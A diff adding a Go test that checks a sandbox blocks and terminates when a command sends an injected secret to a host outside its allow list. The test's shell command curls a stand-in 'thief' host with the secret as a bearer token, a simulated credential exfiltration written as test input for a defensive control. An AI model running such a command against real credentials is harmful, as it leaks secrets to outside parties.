@@ -73,6 +73,29 @@ func TestSecretInjection(t *testing.T) {
 	}
 }
 
+// TestViolationEndsTheSandbox checks that whose command ends with the sandbox learns
+// which secret ended it, and where that was on its way to.
+func TestViolationEndsTheSandbox(t *testing.T) {
+	t.Parallel()
+	netlab.Tool(t, "curl")
+	lab := netlab.New(t)
+	lab.Host(t, "api.ending.example").HTTPS(443, http.NotFoundHandler())
+	lab.Host(t, "thief.ending.example").HTTPS(443, http.NotFoundHandler())
+	sb := running(t, "violation",
+		m.WithSecrets(m.Secret.Env("KEY", "correct-horse", m.SecretEnvOptions{AllowHosts: []string{"api.ending.example"}, OnViolation: m.ViolationActionBlockAndTerminate})))
+	_, err := sb.Shell(t.Context(), `curl -sS -4 --max-time 20 -H "Authorization: Bearer $KEY" https://thief.ending.example/; sleep 1000`)
+	if !m.IsKind(err, m.ErrSecretViolation) || !strings.Contains(err.Error(), "KEY") || !strings.Contains(err.Error(), "thief.ending.example") || !strings.Contains(err.Error(), "block-and-terminate") {
+		t.Errorf("the command: %v", err)
+	}
+	r, err := sb.WaitUntilStopped(t.Context())
+	if err != nil || r.Source == nil || *r.Source != "violation" {
+		t.Errorf("ended as %+v, %v", r, err)
+	}
+	if _, err := sb.Exec(t.Context(), "true", nil); !m.IsKind(err, m.ErrSandboxNotRunning) {
+		t.Errorf("another command: %v", err)
+	}
+}
+
 // checkSecretEvents checks that events tell of interception, requests and
 // secrets, in fields that the public type has, and never of a value.
 func checkSecretEvents(t *testing.T, sb *m.Sandbox, value string) {
